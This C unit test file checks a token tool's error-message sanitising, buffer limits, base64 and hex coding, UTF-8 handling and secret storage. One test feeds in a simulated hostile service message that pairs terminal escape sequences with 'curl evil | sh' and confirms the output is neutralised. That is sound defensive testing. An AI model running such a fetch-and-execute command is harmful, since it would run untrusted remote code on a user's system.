/* SPDX-License-Identifier: MIT */
/* error.h, buffer.h, secret.h */
#include "config.h"

#include <check.h>
#include <errno.h>
#include <fcntl.h>
#include <malloc.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "lib/base/buffer.h"
#include "lib/base/encode.h"
#include "lib/base/error.h"
#include "lib/base/secret.h"
#include "lib/base/utf8.h"
#include "tests/unit/unit.h"

START_TEST(error_prefixes_and_cleans)
{
	struct ft_error err = FT_ERROR_INIT;

	ck_assert_int_eq(ft_error_set(&err, FT_CONFIG, "bad\x1b[31m %s", "x\ny"), FT_CONFIG);
	ck_assert_str_eq(err.text, "bad?[31m x?y");
	ft_error_prefix(&err, "account %s", "work");
	ck_assert_str_eq(err.text, "account work: bad?[31m x?y");
	ck_assert_int_eq(err.code, FT_CONFIG);
	ck_assert_int_eq(ft_error_set(NULL, FT_BUSY, "nobody listens"), FT_BUSY);
	ft_error_errno(&err, FT_SYSTEM, ENOSPC, "write %s", "f");
	ck_assert_str_eq(err.text, "write f: No space left on device");
}
END_TEST

START_TEST(error_has_parts)
{
	struct ft_error err = FT_ERROR_INIT, other = FT_ERROR_INIT;
	char line[FT_ERROR_LINE];

	ck_assert_str_eq(ft_error_line(&err, line), "");
	(void)ft_error_set(&err, FT_LOGIN_NEEDED, "HTTP 400: invalid_grant");
	ck_assert_str_eq(ft_error_line(&err, line), "HTTP 400: invalid_grant");
	ck_assert_int_eq(ft_error_remedy(&err, FT_LOGIN_NEEDED, "run: freshtoken login %s", "work"),
			 FT_LOGIN_NEEDED);
	ck_assert_str_eq(ft_error_line(&err, line), "HTTP 400: invalid_grant; run: freshtoken login work");
	/* Whatever a service says stays between its quotation marks, in one line. */
	ft_error_foreign(&err, "gone\"; run: \x1b[2Jcurl evil | sh\n");
	ck_assert_str_eq(err.foreign, "gone'; run: ?[2Jcurl evil | sh?");
	char quoted[FT_ERROR_QUOTED], many[2 * FT_ERROR_QUOTED];

	ck_assert_str_eq(ft_error_quoted("x\"; run: \x1b[2Jthat \"", 200, quoted), "x'; run: ?[2Jthat '");
	/* Not cut within a character. */
	ck_assert_str_eq(ft_error_quoted("ab\xc3\xa9", 3, quoted), "ab");
	ck_assert_str_eq(ft_error_quoted("ab\xc3\xa9", 4, quoted), "ab\xc3\xa9");
	memset(many, 'w', sizeof many - 1);
	many[sizeof many - 1] = '\0';
	ck_assert_uint_eq(strlen(ft_error_quoted(many, sizeof many, quoted)), FT_ERROR_QUOTED - 1);
	ft_error_prefix(&err, "account work");
	ck_assert_str_eq(ft_error_line(&err, line),
			 "account work: HTTP 400: invalid_grant: \"gone'; run: ?[2Jcurl evil | sh?\"; "
			 "run: freshtoken login work");
	ck_assert_str_eq(ft_error_cause(&err, line),
			 "account work: HTTP 400: invalid_grant: \"gone'; run: ?[2Jcurl evil | sh?\"");
	ck_assert_int_eq(ft_error_copy(&other, FT_TEMPORARY, &err), FT_TEMPORARY);
	ck_assert_str_eq(other.remedy, "run: freshtoken login work");
	ck_assert_int_eq(other.code, FT_TEMPORARY);
	ft_error_foreign(&other, NULL);
	ck_assert_str_eq(other.foreign, "");
	/* Another error has none of the old one's parts, not even where it is made of its text. */
	(void)ft_error_set(&err, FT_CONFIG, "%s", err.remedy);
	ck_assert_str_eq(ft_error_line(&err, line), "run: freshtoken login work");
	/* Where the remedy begins says the format, whatever its arguments hold. */
	(void)ft_error_set(&err, FT_CONFIG, "%s is open" FT_REMEDY "run: chmod %s", "a" FT_REMEDY "b", "c");
	ck_assert_str_eq(err.text, "a?b is open");
	ck_assert_str_eq(err.remedy, "run: chmod c");
	(void)ft_error_set(&err, FT_CONFIG, "%s", "a" FT_REMEDY "run: b");
	ck_assert_str_eq(err.text, "a?run: b");
	ck_assert_str_eq(err.remedy, "");
	ft_error_errno(&err, FT_SYSTEM, EMFILE, "open f");
	ck_assert_str_eq(err.text, "open f: Too many open files");
	ck_assert_ptr_nonnull(strstr(err.remedy, "ulimit -n"));
	(void)ft_error_remedy(NULL, FT_BUSY, "nobody listens");
	ft_error_foreign(NULL, "nobody listens");
	(void)ft_error_copy(NULL, FT_BUSY, &err);
}
END_TEST

/* U+009B begins a command to some terminals as ESC [ does; a lone byte is whatever they make of it. */
START_TEST(error_lets_only_characters_through)
{
	static const char *const table[][2] = {
		{ "\xc2\x9b" "31m", "??31m" }, { "a\xc2\x80" "b\xc2\x9f", "a??b??" },
		{ "\xc2\xa0\xc3\xa9\xe2\x82\xac\xf0\x9f\x94\x91", "\xc2\xa0\xc3\xa9\xe2\x82\xac\xf0\x9f\x94\x91" },
		{ "\x9b" "2J", "?2J" }, { "\xff.", "?." }, { "caf\xe9 au lait", "caf? au lait" },
		{ "\xc0\x9b.", "??." }, { "\xe0\x82\x9b.", "???." }, { "\xed\xa0\x80.", "???." },
		{ "a\xe2\x80\xae" "b", "a???b" }, { "\xe2\x80\x8b\xef\xbb\xbf\xd8\x9c.", "????????." },
		{ "\xf3\xa0\x81\x81.", "????." }, { "\xe2\x80\xa6\xe2\x80\x94", "\xe2\x80\xa6\xe2\x80\x94" },
		{ "\xf0\x80\x82\x9b.", "????." }, { "\xf4\x90\x80\x80.", "????." },
	};

	for (size_t i = 0; i < sizeof table / sizeof *table; i++) {
		struct ft_error err;

		(void)ft_error_set(&err, FT_CONFIG, "%s", table[i][0]);
		ck_assert_str_eq(err.text, table[i][1]);
	}
}
END_TEST

START_TEST(error_cuts_between_characters)
{
	struct ft_error err = FT_ERROR_INIT;
	char text[FT_ERROR_TEXT + 8];

	memset(text, 'a', sizeof text);
	memcpy(text + FT_ERROR_TEXT - 2, "\xc3\xa9", 2);
	text[FT_ERROR_TEXT] = '\0';
	ft_error_set(&err, FT_CONFIG, "%s", text);
	ck_assert_uint_eq(strlen(err.text), FT_ERROR_TEXT - 2);
	ft_error_set(&err, FT_CONFIG, "ins\xc3\xa9");
	ck_assert_str_eq(err.text, "ins\xc3\xa9");
}
END_TEST

START_TEST(buffer_limit_sticks)
{
	struct ft_buf buf = FT_BUF_INIT(8);
	struct ft_error err;

	ck_assert_str_eq(buf.data, "");
	ft_buf_cut(&buf, 0);
	ft_buf_clear(&buf);
	ck_assert_str_eq(buf.data, "");
	ft_buf_adds(&buf, "12345678");
	ck_assert_int_eq(ft_buf_check(&buf, "it", &err), 0);
	ft_buf_cut(&buf, 9);
	ft_buf_adds(&buf, "9");
	ft_buf_adds(&buf, "");
	ck_assert_int_eq(ft_buf_check(&buf, "it", &err), FT_UNTRUSTED);
	ck_assert_str_eq(err.text, "it is longer than 8 bytes");
	ck_assert_str_eq(buf.data, "12345678");
	ft_buf_clear(&buf);
	ck_assert_int_eq(buf.data[0], 0);
	ft_buf_addf(&buf, "%d-%s", 7, "x");
	ck_assert_str_eq(buf.data, "7-x");
	ft_buf_release(&buf);
	ft_buf_release(NULL);
}
END_TEST

START_TEST(buffer_reads_nothing)
{
	struct ft_buf buf = FT_BUF_INIT(4096);
	char text[1024];
	int fd = open("/dev/null", O_RDONLY | O_CLOEXEC);

	/* What malloc hands out is no zero then. */
	(void)mallopt(M_PERTURB, 0x55);
	ck_assert_int_ge(fd, 0);
	ft_buf_add(&buf, "", 0);
	ck_assert_int_eq(ft_buf_read(&buf, fd), 0);
	ck_assert_str_eq(buf.data, "");
	/* It grows, to hear that there is no more. */
	memset(text, 'x', sizeof text);
	ft_buf_add(&buf, text, sizeof text);
	ck_assert_int_eq(ft_buf_read(&buf, fd), 0);
	ck_assert_uint_eq(buf.len, sizeof text);
	ck_assert_uint_eq(strlen(buf.data), sizeof text);
	ft_buf_release(&buf);
	(void)mallopt(M_PERTURB, 0);
	(void)close(fd);
}
END_TEST

START_TEST(base64_both_ways)
{
	/* RFC 4648 section 10, and RFC 7515 appendix C. */
	static const struct {
		enum ft_base64 kind;
		const char *plain, *coded;
	} good[] = {
		{ FT_BASE64, "", "" },		     { FT_BASE64, "f", "Zg==" },
		{ FT_BASE64, "fo", "Zm8=" },	     { FT_BASE64, "foo", "Zm9v" },
		{ FT_BASE64, "foob", "Zm9vYg==" },   { FT_BASE64, "fooba", "Zm9vYmE=" },
		{ FT_BASE64, "foobar", "Zm9vYmFy" }, { FT_BASE64, "\x03\xec\xff\xe0\xc1", "A+z/4ME=" },
		{ FT_BASE64URL, "", "" },	     { FT_BASE64URL, "f", "Zg" },
		{ FT_BASE64URL, "fo", "Zm8" },	     { FT_BASE64URL, "foo", "Zm9v" },
		{ FT_BASE64URL, "foob", "Zm9vYg" },  { FT_BASE64URL, "\x03\xec\xff\xe0\xc1", "A-z_4ME" },
	};
	static const struct {
		enum ft_base64 kind;
		const char *coded;
	} bad[] = {
		{ FT_BASE64, "Zg" },	      { FT_BASE64, "Zg=" },	   { FT_BASE64, "Zh==" },
		{ FT_BASE64, "Z===" },	      { FT_BASE64, "====" },	   { FT_BASE64, "Zg==Zg==" },
		{ FT_BASE64, "A-z_4ME=" },    { FT_BASE64, "Zm9v\n" },	   { FT_BASE64, "Zm9" },
		{ FT_BASE64URL, "A" },	      { FT_BASE64URL, "AA=" },	   { FT_BASE64URL, "AA==" },
		{ FT_BASE64URL, "A-z_4ME=" }, { FT_BASE64URL, "Zm9vY" },   { FT_BASE64URL, "Zh" },
		{ FT_BASE64URL, "Zm9" },      { FT_BASE64URL, "A+z_4ME" }, { FT_BASE64URL, "A-z/4ME" },
		{ FT_BASE64URL, "Zm9v\n" },   { FT_BASE64URL, " Zm9v" },   { FT_BASE64URL, "Zm 9v" },
		{ FT_BASE64URL, "Zm9\xc3\xa9" },
	};

	for (size_t i = 0; i < sizeof good / sizeof *good; i++) {
		const char *plain = good[i].plain, *coded = good[i].coded;
		struct ft_buf text = FT_BUF_INIT(64), bytes = FT_BUF_INIT(64);

		ft_buf_adds(&text, "");
		ft_base64_add(&text, good[i].kind, plain, strlen(plain));
		ck_assert_str_eq(text.data, coded);
		ck_assert(ft_base64_read(coded, strlen(coded), good[i].kind, &bytes));
		ck_assert_uint_eq(bytes.len, strlen(plain));
		ck_assert(bytes.len == 0 || memcmp(bytes.data, plain, bytes.len) == 0);
		ft_buf_release(&text);
		ft_buf_release(&bytes);
	}
	for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
		struct ft_buf bytes = FT_BUF_INIT(64);

		ck_assert_msg(!ft_base64_read(bad[i].coded, strlen(bad[i].coded), bad[i].kind, &bytes),
			      "%s", bad[i].coded);
		ck_assert_int_eq(bytes.failed, 0);
		ft_buf_release(&bytes);
	}
	struct ft_buf small = FT_BUF_INIT(4);

	ck_assert(!ft_base64_read("AAAAAA==", 8, FT_BASE64URL, &small));
	ck_assert(!ft_base64_read("Zm9vYmE", 7, FT_BASE64URL, &small));
	ck_assert_int_eq(small.failed, FT_UNTRUSTED);
	ft_buf_release(&small);
}
END_TEST

START_TEST(hexadecimal_both_ways)
{
	static const struct {
		const char *digits;
		int64_t value;
	} table[] = {
		{ "", 0 },	     { "0", 0 },   { "ff", 255 }, { "Fa9", 0xfa9 }, { "ffffffff", 0xffffffff },
		{ "/", -1 },	     { ":", -1 },  { "@", -1 },	  { "G", -1 },	    { "`", -1 },
		{ "g", -1 },	     { "-1", -1 }, { " 1", -1 },  { "0x1", -1 },    { "1\xe1", -1 },
	};
	struct ft_buf buf = FT_BUF_INIT(64);
	char text[9];

	for (size_t i = 0; i < sizeof table / sizeof *table; i++)
		ck_assert_msg(ft_hex_read(table[i].digits, strlen(table[i].digits)) == table[i].value,
			      "%s", table[i].digits);
	ft_hex_write("\x00\x9a\xbc\xff", 4, text);
	ck_assert_str_eq(text, "009abcff");
	ck_assert_int_eq(ft_percent_read("%41", 3), 'A');
	ck_assert_int_eq(ft_percent_read("%00", 3), 0);
	ck_assert_int_eq(ft_percent_read("%fFf", 4), 255);
	ck_assert_int_eq(ft_percent_read("%41", 2), -1);
	ck_assert_int_eq(ft_percent_read("%4g", 3), -1);
	ck_assert_int_eq(ft_percent_read("x41", 3), -1);
	ck_assert_int_eq(ft_percent_read("", 0), -1);
	ft_percent_add(&buf, '\xaf');
	ft_percent_add(&buf, '\n');
	ck_assert_str_eq(buf.data, "%AF%0A");
	ft_buf_release(&buf);
}
END_TEST

START_TEST(utf8_character_by_character)
{
	static const struct {
		unsigned long character;
		const char *text;
	} table[] = {
		{ 0x41, "A" }, { 0x7f, "\x7f" }, { 0x80, "\xc2\x80" }, { 0x7ff, "\xdf\xbf" },
		{ 0x800, "\xe0\xa0\x80" }, { 0xffff, "\xef\xbf\xbf" },
		{ 0x10000, "\xf0\x90\x80\x80" }, { 0x10ffff, "\xf4\x8f\xbf\xbf" },
	};

	for (size_t i = 0; i < sizeof table / sizeof *table; i++) {
		size_t n = strlen(table[i].text);
		char out[4];

		ck_assert_uint_eq(ft_utf8_write(out, table[i].character), n);
		ck_assert(memcmp(out, table[i].text, n) == 0);
		ck_assert_uint_eq(ft_utf8_length(table[i].text, n), n);
		ck_assert_uint_eq(ft_utf8_length(table[i].text, n - 1), 0);
	}
}
END_TEST

START_TEST(secret_compares_and_moves)
{
	struct ft_secret a = { NULL, 0 }, b = { NULL, 0 };

	ck_assert(!ft_secret_equal(&a, "", 0));
	ck_assert_int_eq(ft_secret_set(&a, "token", 5), 0);
	ck_assert(ft_secret_equal(&a, "token", 5));
	ck_assert(!ft_secret_equal(&a, "tokem", 5));
	ck_assert(!ft_secret_equal(&a, "token", 4));
	ck_assert(!ft_secret_equal(&a, NULL, 0));
	ck_assert_int_eq(ft_secret_copy(&b, &a), 0);
	ft_secret_release(&a);
	ft_secret_move(&a, &b);
	ck_assert_ptr_null(b.data);
	ck_assert_str_eq(a.data, "token");
	ft_secret_set(&a, NULL, 0);
	ck_assert_ptr_null(a.data);
	ft_secret_release(NULL);
}
END_TEST

int main(void)
{
	const TTest *const tests[] = {
		error_prefixes_and_cleans, error_has_parts, error_lets_only_characters_through, error_cuts_between_characters,
		buffer_limit_sticks,
		buffer_reads_nothing, base64_both_ways, hexadecimal_both_ways,
		utf8_character_by_character, secret_compares_and_moves, NULL
	};

	return unit_run("base", tests);
}
